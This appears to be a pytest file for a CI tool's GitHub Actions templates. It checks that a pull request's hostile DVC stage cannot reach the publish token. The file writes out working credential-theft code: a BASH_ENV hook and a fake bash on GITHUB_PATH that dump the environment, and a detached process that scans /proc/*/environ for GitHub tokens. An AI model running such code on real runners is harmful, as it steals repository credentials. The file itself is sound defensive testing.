"""A PR's code and the token never share a job: the templates' jobs against a hostile stage.

The PR adds a DVC stage that does what any step's code can do inside a job, the three ways the
issue found:
  (a) append `BASH_ENV=<its script>` to $GITHUB_ENV: every later step's bash runs it first;
  (b) append a directory holding its own `bash` to $GITHUB_PATH: later steps start it instead;
  (c) leave a detached process behind that polls `/proc/*/environ` of every process.
Each writes what it sees to a loot directory. The jobs run the way the runner runs them
(tests/plugins/actions_runner.py: GITHUB_ENV and GITHUB_PATH applied to every later step).

- The single job (`phase: all`, still offered for same-repository PRs and documented as unsafe):
  each of the three takes the token of the publish step.
- The split (templates/workflows/pr.yml: admit -> train -> publish): the training job's steps
  hold no token, so there is nothing to take; the publish job runs on a fresh VM (the training
  machine's leftovers are gone, as on GitHub-hosted runners) with a checkout of the base, and
  runs nothing of the PR. The control: it still posts one comment and one check run, and the
  head's record reaches origin's refs/notes/mlci.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers import commit_all, git
from tests.plugins.actions_runner import run_action, run_job
from tests.plugins.fake_github import TOKEN, actions_env

pytestmark = pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="needs Linux /proc")

ROOT = Path(__file__).resolve().parent.parent
PR_TEMPLATE = ROOT / "templates" / "workflows" / "pr.yml"

POLLER = r"""
import os, sys, time
from pathlib import Path
loot = Path(sys.argv[1])
(loot / "poller.pid").write_text(str(os.getpid()))
found, deadline = set(), time.time() + 300
while time.time() < deadline and not (loot / "stop").exists():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        for entry in data.split(b"\0"):
            name, _, value = entry.partition(b"=")
            if b"TOKEN" in name.upper() and value.startswith(b"ghs_") and entry not in found:
                found.add(entry)
                with open(loot / "proc.txt", "ab") as out:
                    out.write(pid.encode() + b" " + entry + b"\n")
    (loot / "poller.alive").write_text(str(time.time()))
    time.sleep(0.02)
"""

HOSTILE = r"""
import os, shutil, stat, subprocess, sys
from pathlib import Path

loot = Path(__file__).resolve().parents[2] / "loot"
loot.mkdir(exist_ok=True)
with open(loot / "stage-ran", "a") as ran:
    ran.write("x")
if os.environ.get("GITHUB_ACTIONS"):
    # (a) BASH_ENV: sourced by every later step's bash before its own script
    grab = loot / "bash_env.sh"
    grab.write_text(f'env >> "{loot}/bash_env.txt"\n')
    with open(os.environ["GITHUB_ENV"], "a") as env_file:
        env_file.write(f"BASH_ENV={grab}\n")
    # (b) our own bash, first on every later step's PATH
    real = shutil.which("bash")
    bindir = loot / "bin"
    bindir.mkdir(exist_ok=True)
    fake = bindir / "bash"
    fake.write_text(f'#!{real}\nenv >> "{loot}/path_bash.txt"\nexec {real} "$@"\n')
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    with open(os.environ["GITHUB_PATH"], "a") as path_file:
        path_file.write(f"{bindir}\n")
    # (c) a process left behind, reading every process's environment
    subprocess.Popen(
        [sys.executable, str(Path(__file__).with_name("poller.py")), str(loot)],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
import json
json.dump({"hostile": 1}, open("hostile.json", "w"))
"""


@pytest.fixture(scope="module")
def _hostile(_trained_example: Path, tmp_path_factory) -> Path:
    """The example on a PR branch that adds the hostile stage (always run), its lock committed."""
    import shutil

    from mlci.workflows.run import run

    root = tmp_path_factory.mktemp("hostile") / "repo"
    shutil.copytree(_trained_example, root, symlinks=True)
    git(root, "checkout", "-q", "-b", "feature")
    (root / "src" / "hostile.py").write_text(HOSTILE)
    (root / "src" / "poller.py").write_text(POLLER)
    dvc = yaml.safe_load((root / "dvc.yaml").read_text())
    dvc["stages"]["hostile"] = {
        "cmd": "python src/hostile.py",
        "deps": ["src/hostile.py", "src/poller.py"],
        "always_changed": True,
    }
    (root / "dvc.yaml").write_text(yaml.safe_dump(dvc, sort_keys=False))
    commit_all(root, "A stage that goes for the token")
    run(root)
    commit_all(root, "Lock the stage")
    return root


@pytest.fixture
def hostile(_hostile: Path, tmp_path: Path):
    """A private copy (loot lands in tmp_path/loot); the leftover poller is stopped by its pid afterwards."""
    import shutil

    root = tmp_path / "repo"
    shutil.copytree(_hostile, root, symlinks=True)
    loot = tmp_path / "loot"
    shutil.rmtree(loot, ignore_errors=True)
    yield root
    stop_leftovers(loot)


def stop_leftovers(loot: Path) -> bool:
    """End the process the stage left behind (by the pid it wrote), as a job's machine going away
    does; True when it was still running."""
    pid_file = loot / "poller.pid"
    if not pid_file.exists():
        return False
    (loot / "stop").write_text("")
    pid = int(pid_file.read_text())
    try:
        os.kill(pid, signal.SIGTERM)
    except ProcessLookupError:
        return False
    pid_file.unlink()
    return True


def loot_text(loot: Path) -> dict[str, str]:
    return {
        name: (loot / name).read_text(errors="replace") if (loot / name).exists() else ""
        for name in ("bash_env.txt", "path_bash.txt", "proc.txt")
    }


def head(root: Path) -> str:
    return git(root, "rev-parse", "HEAD")


def test_in_one_job_each_of_the_three_takes_the_publish_steps_token(hostile, fake_github, tmp_path):
    """The attack works: why `phase: all` is for same-repository PRs only and mlci refuses forks in it."""
    env = actions_env(fake_github, tmp_path / "runner", sha=head(hostile), self_hosted=True)
    run = run_action(hostile, env)  # a same-repository PR, the single job
    assert run.rc == 0, run.log
    assert len(fake_github.issue_comments(12)) == 1  # it published, and meanwhile:
    loot = loot_text(tmp_path / "loot")
    assert f"GITHUB_TOKEN={TOKEN}" in loot["bash_env.txt"], "(a) BASH_ENV via GITHUB_ENV"
    assert f"GITHUB_TOKEN={TOKEN}" in loot["path_bash.txt"], "(b) bash first on GITHUB_PATH"
    assert f"GITHUB_TOKEN={TOKEN}" in loot["proc.txt"], "(c) a leftover process reading /proc/<pid>/environ"


def test_the_split_leaves_the_stage_nothing_to_take_and_still_publishes(
    hostile, fake_github, git_http_origin, tmp_path
):
    from mlci.integrations.github.gitauth import auth_env

    git_http_origin.token = fake_github.token
    auth = {**os.environ, **auth_env(fake_github.token, git_http_origin.server_url, {}), "GIT_TERMINAL_PROMPT": "0"}
    git(hostile, "remote", "add", "origin", git_http_origin.url)
    subprocess.run(["git", "push", "-q", "origin", "main", "feature"], cwd=hostile, check=True, env=auth)
    sha = head(hostile)
    artifacts: dict[str, Path] = {}
    loot = tmp_path / "loot"

    # admit: GitHub-hosted, its own machine; runs nothing of the PR
    quiet = {"GIT_TERMINAL_PROMPT": "0"}
    admit = run_job(
        PR_TEMPLATE,
        "admit",
        hostile,
        {**actions_env(fake_github, tmp_path / "admit", sha=sha), **quiet},
        artifacts=artifacts,
    )
    assert admit.rc == 0 and (admit.outputs["admitted"], admit.outputs["head-sha"]) == ("true", sha)
    assert "mlci-records" in artifacts  # the run records for the tokenless train job
    assert not (loot / "stage-ran").exists()

    # train: the self-hosted runner; its job token (github.token) exists, no mlci step is given it
    train_env = {**actions_env(fake_github, tmp_path / "train", sha=sha, self_hosted=True), **quiet}
    requests = len(fake_github.requests)
    admitted = {"admit": {"result": "success", "outputs": admit.outputs}}
    train = run_job(PR_TEMPLATE, "train", hostile, train_env, needs=admitted, artifacts=artifacts)
    assert train.rc == 0, train.mlci.log
    assert train.uses_with["actions/checkout"]["ref"] == sha
    assert train.uses_with["actions/checkout"]["persist-credentials"] == "false"
    assert (loot / "stage-ran").read_text() == "x"  # the hostile stage ran, and set all three up
    assert "BASH_ENV" in train.job.github_env and str(loot / "bin") in train.job.github_path
    assert len(fake_github.requests) == requests and train.mlci.masks == []  # no token, no API call
    assert "mlci-bundle" in artifacts  # the bundle was uploaded
    assert stop_leftovers(loot), "the poller was still running when the training job ended"

    # publish: a fresh GitHub-hosted VM with the base checked out (a clone of main)
    base = tmp_path / "base"
    subprocess.run(
        ["git", "clone", "-q", "--single-branch", "--branch", "main", git_http_origin.url, str(base)],
        check=True,
        env=auth,
    )
    publish_env = {
        **actions_env(fake_github, tmp_path / "publish", sha=sha),
        "GITHUB_SERVER_URL": git_http_origin.server_url,
        "GIT_TERMINAL_PROMPT": "0",
    }
    publish = run_job(
        PR_TEMPLATE,
        "publish",
        base,
        publish_env,
        needs={"train": {"result": "success", "outputs": {}}},
        artifacts=artifacts,
    )
    assert publish.rc == 0, publish.mlci.log
    assert publish.uses_with["actions/checkout"]["ref"] == "b" * 40  # the event's base SHA
    assert (loot / "stage-ran").read_text() == "x"  # nothing of the PR ran in the publish job

    assert all(TOKEN not in text for text in loot_text(loot).values()), {
        k: v[-3000:] for k, v in loot_text(loot).items() if TOKEN in v
    }
    [comment] = fake_github.issue_comments(12)
    assert "auc" in comment["body"]
    [check] = fake_github.check_runs
    assert check["head_sha"] == sha
    [line] = git(git_http_origin.bare, "notes", "--ref=mlci", "show", sha).splitlines()
    assert (json.loads(line)["commit"], json.loads(line)["pr"]) == (sha, 12)


def test_a_fork_pr_is_refused_in_one_job_before_its_stage_runs(hostile, fake_github, tmp_path):
    """So the attacks above stay with same-repository PRs (whose authors can push anyway)."""
    fake_github.read_only()
    env = actions_env(fake_github, tmp_path / "runner", sha=head(hostile), fork=True)
    run = run_action(hostile, env)
    assert run.rc == 3 and "in one job with the token" in run.log
    assert not (tmp_path / "loot").exists()


def test_the_harness_applies_github_env_heredocs_and_github_path_to_later_steps(tmp_path):
    """The runner's env-file semantics the attacks rely on: NAME=value, NAME<<DELIM blocks, PATH order."""
    from tests.plugins.actions_runner import Job

    temp = tmp_path / "temp"
    temp.mkdir()
    job = Job(tmp_path, {"RUNNER_TEMP": str(temp), "PATH": os.environ["PATH"]})
    first = job.run_script(
        'echo "ONE=1" >> "$GITHUB_ENV"\n'
        'printf "MULTI<<EOF\\nline a\\nline b\\nEOF\\n" >> "$GITHUB_ENV"\n'
        'echo "/opt/first" >> "$GITHUB_PATH"\necho "/opt/second" >> "$GITHUB_PATH"\n',
        job.step_env({}, None, {}),
        tmp_path,
    )
    assert first.returncode == 0, first.stderr
    second = job.run_script('echo "$ONE|$MULTI|$PATH"\n', job.step_env({}, {"ONE": "step wins"}, {}), tmp_path)
    one, multi, path = second.stdout.strip().split("|", 2)
    assert (one, multi) == ("step wins", "line a\nline b")
    assert path.split(os.pathsep)[1:3] == ["/opt/second", "/opt/first"]
    assert sys.executable.rsplit("/", 1)[0] == path.split(os.pathsep)[0]
